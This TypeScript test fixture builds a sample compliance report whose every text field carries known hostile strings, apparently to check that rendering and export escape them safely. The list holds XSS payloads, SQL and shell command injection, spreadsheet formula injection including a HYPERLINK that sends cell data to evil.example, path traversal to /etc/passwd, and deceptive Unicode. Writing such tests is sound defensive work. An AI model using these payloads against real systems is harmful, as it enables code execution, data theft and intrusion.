import type { EvaluationInput, RosterAsset } from '../../rules/input.ts';
import type { Outcome } from '../../rules/outcome.ts';
import type { ReportSource } from '../../reports/build.ts';
import { sha256, sortedJson } from '../../wire/snapshot.ts';
import { findingsOf, outcome, rule, sampleInput } from './sample.ts';

/** Texts that a machine may call itself, a user or a program, each a known way to hurt whoever shows it. */
export const hostileTexts: readonly string[] = [
  // markup
  '<img src=x onerror=alert(1)>',
  '"><script>alert(1)</script>',
  "' onmouseover='alert(1)",
  '</title><script>alert(1)</script>',
  '</style><style>body{display:none}</style>',
  '<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<a href="javascript:alert(1)">click</a>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<base href="https://evil.example/"><link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '--><!--<b>',
  ']]><![CDATA[',
  '&lt;b&gt; &amp;amp; &#x3c;',
  '<details open ontoggle=alert(1)><summary>x',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  // templates and interpreters
  '${alert(1)} {{7*7}} <%= 7*7 %> #{7*7}',
  "'; DROP TABLE finding; --",
  '$(touch /tmp/x) `id` ; id | sh',
  '#import "@preview/x:1.0.0" \\input{/etc/passwd}',
  // formulas
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example/?"&A1,"open")',
  '+1+1',
  '-2+3',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '\u0000=1+1',
  'x;=1+1',
  'x";=1+1;"',
  'x\n=1+1',
  '\uFF1D1+1',
  // characters that are not what they look like
  '\u202Egpj.exe',
  '\u2066a\u2069\u2067b\u2069',
  'pc\u200B\u200D\u2060\uFEFF\u00AD',
  '\u3164\u115F\uFFA0\u034F\u17B4',
  '\u{E0041}\u{E0042}\u{E007F}',
  '\u001B[2J\u001B[31mred\u0007\u009B1m',
  'line\u2028separator\u2029paragraph\u0085next',
  'lone \uD800 surrogate \uDFFF',
  'note\uFFF9a\uFFFAb\uFFFB \u0600\u06DD',
  'a\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030A',
  '\uE000\u{F0000}',
  // names of something else
  '__proto__',
  'constructor',
  'toString',
  '../../../../etc/passwd',
  '\\\\evil\\share\\NUL',
  'outcome',
  // size
  'W'.repeat(64),
  '\u{1F4BB}'.repeat(300),
  '<'.repeat(65_536),
  '',
  '   ',
];

/** What a reader could not see, or what moves the text beside it. */
export const unseen = /[\p{Cc}\p{Cf}\p{Co}\p{Cs}\p{Default_Ignorable_Code_Point}\u2028\u2029]/u;

/** A report in which every text that can come from a machine or a person is the given one. */
export function hostileSource(texts: readonly string[] = hostileTexts): ReportSource {
  const base = sampleInput(texts);
  const input: EvaluationInput = {
    ...base,
    town: { ...base.town, name: `Maple Hollow ${texts[0] ?? ''}` },
    roster: base.roster.map((asset, index): RosterAsset => ({ ...asset, department: texts[index]!, tags: [texts[index]!] })),
    ...planted(base, texts),
    ...said(texts),
  };
  const outcomes = texts.flatMap((text, index) => verdictsOf(text, index));
  return { input, outcomes, findings: findingsOf(outcomes), rules: ['CFG-005', 'IAM-011', 'EOL-001', 'EOL-007', 'INV-002'].map((id) => rule(id)), preparedBy: `Example MSP ${texts[0] ?? ''}` };
}

/** People who state nothing but these texts. */
function said(texts: readonly string[]): Pick<EvaluationInput, 'waivers' | 'disputes' | 'responses'> {
  const by = { version: 1, by: 'file, unverified' } as const;
  return {
    waivers: texts.map((text, index) => ({
      ...by, id: text, rules: ['CFG-005', text], subjects: index % 2 === 0 ? [`asset-${index + 1}`, text] : null, department: text, requester: text, owner: text, approver: text, governingBody: text, reason: text, risk: text,
      control: { what: text, rule: index % 3 === 0 ? 'INV-002' : text }, created: text, from: '2026-11-01', expires: index % 5 === 0 ? text : '2027-01-01', state: 'approved', plan: text, renews: text, remark: text,
    })),
    disputes: texts.map((text, index) => ({ ...by, id: text, rule: 'CFG-005', subject: `asset-${index + 1}`, person: text, on: '2026-11-01', why: text, evidence: { file: text, digest: sha256(text) }, answer: index % 2 === 0 ? null : { person: text, on: '2026-11-02', text, upheld: true } })),
    responses: texts.map((text, index) => ({ ...by, rule: 'CFG-005', subject: `asset-${index + 1}`, response: 'partly', text, cause: 'vendor', person: text, on: '2026-11-01', status: null })),
  };
}

/** Contents that carry the texts as facts and as what is missing, and reports that carry them as details. */
function planted(base: EvaluationInput, texts: readonly string[]): Pick<EvaluationInput, 'contents' | 'statements'> {
  const contents: Record<string, unknown> = {};
  const statements = base.statements.map((statement, index) => {
    const text = texts[index]!;
    const sections = Object.fromEntries(Object.entries(statement.predicate.sections).map(([name, report]) => {
      if (report.digest === undefined) return [name, { ...report, detail: text }];
      const before = base.contents[report.digest] as { data: object };
      const data = name === 'os' ? { ...before.data, name: text } : before.data;
      const content = { ...before, data, missing: [{ path: `users[].${text}`, reason: text, detail: text }, { path: text, reason: 'denied', detail: text }] };
      const digest = sha256(sortedJson(content));
      contents[digest] = content;
      return [name, { ...report, digest }];
    }));
    return { ...statement, predicate: { ...statement.predicate, sections } };
  });
  return { contents, statements };
}

function verdictsOf(text: string, index: number): Outcome[] {
  const asset = `asset-${index + 1}`;
  const subject = { scope: 'asset' as const, id: asset, asset, label: text };
  const because = { reason: text as 'stale', section: text, path: text, detail: text };
  return [
    outcome('CFG-005', 'fail', {
      subject,
      items: [{ item: text, outcome: 'fail' }],
      evidence: [{ name: 'seen', value: text }, { name: 'all', value: { [text]: [text, { outcome: text }] } }, { name: 'also', unknown: because }],
      sources: [{ section: text, digest: sha256(text), receipt: `R-${index}`, observedAt: '2026-11-21T07:11:58Z', receivedAt: '2026-11-21T07:12:00Z' }],
      raised: [text],
      dispositions: [{ kind: 'disputed', by: text, reason: text, until: null }, { kind: 'planned', by: text, reason: text, until: text }],
    }),
    outcome('EOL-001', 'unknown', { subject, because }),
    outcome('EOL-007', 'not-applicable', { subject, notApplicable: text }),
    outcome('IAM-011', 'error', { subject, because: { reason: 'unreadable', detail: text } }),
    outcome('INV-002', 'pass', { subject }),
  ];
}
